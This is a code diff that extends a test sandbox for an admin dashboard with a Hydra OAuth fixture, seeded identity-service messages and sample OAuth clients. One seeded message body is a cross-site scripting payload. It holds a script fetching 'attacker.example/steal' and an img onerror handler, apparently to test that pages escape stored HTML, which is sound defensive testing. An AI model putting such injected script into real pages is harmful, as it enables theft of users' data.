@@ -12,6 +12,7 @@ import { openDatabase } from '../src/db/database.ts'
 import { createLogger } from '../src/log.ts'
 import { serve } from '../src/server.ts'
 import { KratosFixture } from '../test/support/kratos.ts'
+import { HydraFixture } from '../test/support/hydra.ts'
 import { startOAuthProvider } from '../test/support/oauth-provider.ts'
 
 export const SANDBOX_USERS = {
@@ -31,6 +32,8 @@ export interface Sandbox {
   providerUrl: string
   /** The identity store behind the service, for tests that check what a page did. */
   kratos: KratosFixture
+  /** The OAuth 2.0 clients' admin API behind the service (Hydra's), for the same purpose. */
+  hydra: HydraFixture
   /** The service's own layers (settings, audit), for tests that check what a page stored. */
   services: Services
   /** The service's environment (its keys too: tests prove pages never show them). */
@@ -69,11 +72,15 @@ export async function startSandbox(options: SandboxOptions): Promise<Sandbox> {
     ['1.0.16.1', 'Tokyo'],
     ['8.8.8.8', 'Mountain View'],
   ] as const
+  const agents = ['Mozilla/5.0 (X11; Linux x86_64) Firefox/133.0', 'Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) Safari/604.1', 'okhttp/4.12.0']
   for (let i = 1; i <= 40; i++) {
     const person = kratos.addIdentity({ email: `user${String(i).padStart(2, '0')}@example.test`, name: `Sample User ${i}` })
     const [ip] = cities[i % cities.length]!
-    kratos.addSession(person.id, { ip_address: ip }, i % 20)
+    kratos.addSession(person.id, { ip_address: ip, user_agent: agents[i % agents.length] }, i % 20)
   }
+  seedMessages(kratos)
+  const hydra = new HydraFixture().start()
+  seedClients(hydra)
 
   const provider = await startOAuthProvider({
     clientId: 'admin-dashboard',
@@ -90,6 +97,7 @@ export async function startSandbox(options: SandboxOptions): Promise<Sandbox> {
     OAUTH_ISSUER_URL: provider.url,
     OAUTH_CLIENT_ID: 'admin-dashboard',
     IDP_ADMIN_URL: kratos.url,
+    OAUTH_ADMIN_URL: hydra.url,
     HOST: '127.0.0.1',
     PORT: String(port),
     DATABASE_PATH: join(options.dataDir, 'sandbox.db'),
@@ -108,6 +116,7 @@ export async function startSandbox(options: SandboxOptions): Promise<Sandbox> {
     url: baseUrl,
     providerUrl: provider.url,
     kratos,
+    hydra,
     services,
     env,
     async stop() {
@@ -115,7 +124,35 @@ export async function startSandbox(options: SandboxOptions): Promise<Sandbox> {
       opened.db.close()
       await provider.stop()
       await kratos.stop()
+      await hydra.stop()
     },
+  }
+}
+
+/** Courier messages in every status, some with failed dispatches, one whose body is hostile HTML. */
+function seedMessages(kratos: KratosFixture): void {
+  const templates = ['verification_code_valid', 'recovery_code_valid', 'login_code_valid']
+  for (let i = 1; i <= 30; i++) {
+    const recipient = `user${String(i).padStart(2, '0')}@example.test`
+    const template = templates[i % templates.length]!
+    const code = String(100000 + i * 7919).slice(0, 6)
+    const status = i % 10 === 0 ? 'abandoned' : i % 7 === 0 ? 'queued' : i % 11 === 0 ? 'processing' : 'sent'
+    const failed = { status: 'failed' as const, error: { message: 'dial tcp 10.0.0.25:587: connect: connection refused', reason: 'SMTP server unreachable' } }
+    const dispatches = status === 'abandoned' ? [failed, failed, failed] : status === 'sent' ? [{ status: 'success' as const }] : []
+    kratos.addMessage({ recipient, subject: template.startsWith('recovery') ? 'Recover access to your account' : 'Please verify your email address', body: `Hi, please use this code: ${code}`, template_type: template, status }, dispatches)
+  }
+  kratos.addMessage(
+    { recipient: 'user03@example.test', subject: 'Suspicious newsletter', body: '<p>Hello</p><script>fetch("https://attacker.example/steal")</script><img src="https://attacker.example/pixel.png" onerror="alert(1)">', status: 'abandoned', template_type: 'stub' },
+    [{ status: 'failed', error: { message: 'message rejected by the relay', reason: '550 5.7.1 content rejected' } }],
+  )
+}
+
+function seedClients(hydra: HydraFixture): void {
+  hydra.addClient({ client_name: 'Customer portal', redirect_uris: ['https://portal.example.com/callback'], post_logout_redirect_uris: ['https://portal.example.com/'], grant_types: ['authorization_code', 'refresh_token'], response_types: ['code'], scope: 'openid offline_access email profile' })
+  hydra.addClient({ client_name: 'Mobile app', token_endpoint_auth_method: 'none', redirect_uris: ['com.example.app:/oauth2redirect'], grant_types: ['authorization_code', 'refresh_token'], response_types: ['code'], scope: 'openid offline_access' })
+  hydra.addClient({ client_name: 'Billing service', grant_types: ['client_credentials'], response_types: ['token'], scope: 'billing.read billing.write', audience: ['https://api.example.com'] })
+  for (let i = 1; i <= 27; i++) {
+    hydra.addClient({ client_name: `Partner integration ${String(i).padStart(2, '0')}`, redirect_uris: [`https://partner${i}.example.net/oauth/callback`], grant_types: ['authorization_code'], response_types: ['code'], scope: 'openid' })
   }
 }
 
